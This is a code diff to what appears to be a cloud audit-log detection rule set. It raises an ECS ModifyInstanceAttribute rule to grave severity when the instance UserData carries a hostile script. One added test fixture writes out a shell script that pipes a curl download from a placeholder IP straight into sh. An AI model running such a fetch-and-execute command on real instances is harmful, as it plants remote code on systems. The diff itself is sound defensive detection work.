@@ -1,3 +1,4 @@
+import { carriesHostileScript } from '../commands';
 import { parameter, wordsOf } from '../parameters';
 import type { Rule } from './model';
 
@@ -56,8 +57,15 @@ export const CHANGES: readonly Rule[] = [
     services: /^ecs$/i,
     calls: /^ModifyInstanceAttribute$/,
     holds: (event) => wordsOf(event).some(({ name }) => /^(Password|UserData)$/i.test(name)),
-    weight: 'weak',
-    fires: [{ call: 'Ecs ModifyInstanceAttribute', request: { UserData: 'IyEvYmluL3No' }, weight: 'weak' }],
+    weight: (event) => (carriesHostileScript(event) ? 'grave' : 'weak'),
+    fires: [
+      { call: 'Ecs ModifyInstanceAttribute', request: { UserData: 'IyEvYmluL3No' }, weight: 'weak' },
+      {
+        call: 'Ecs ModifyInstanceAttribute',
+        request: { UserData: '#!/bin/sh\ncurl -s http://203.0.113.9/x | sh' },
+        weight: 'grave',
+      },
+    ],
     silent: [{ call: 'Ecs ModifyInstanceAttribute', request: { InstanceName: 'web-1' } }],
   },
   {
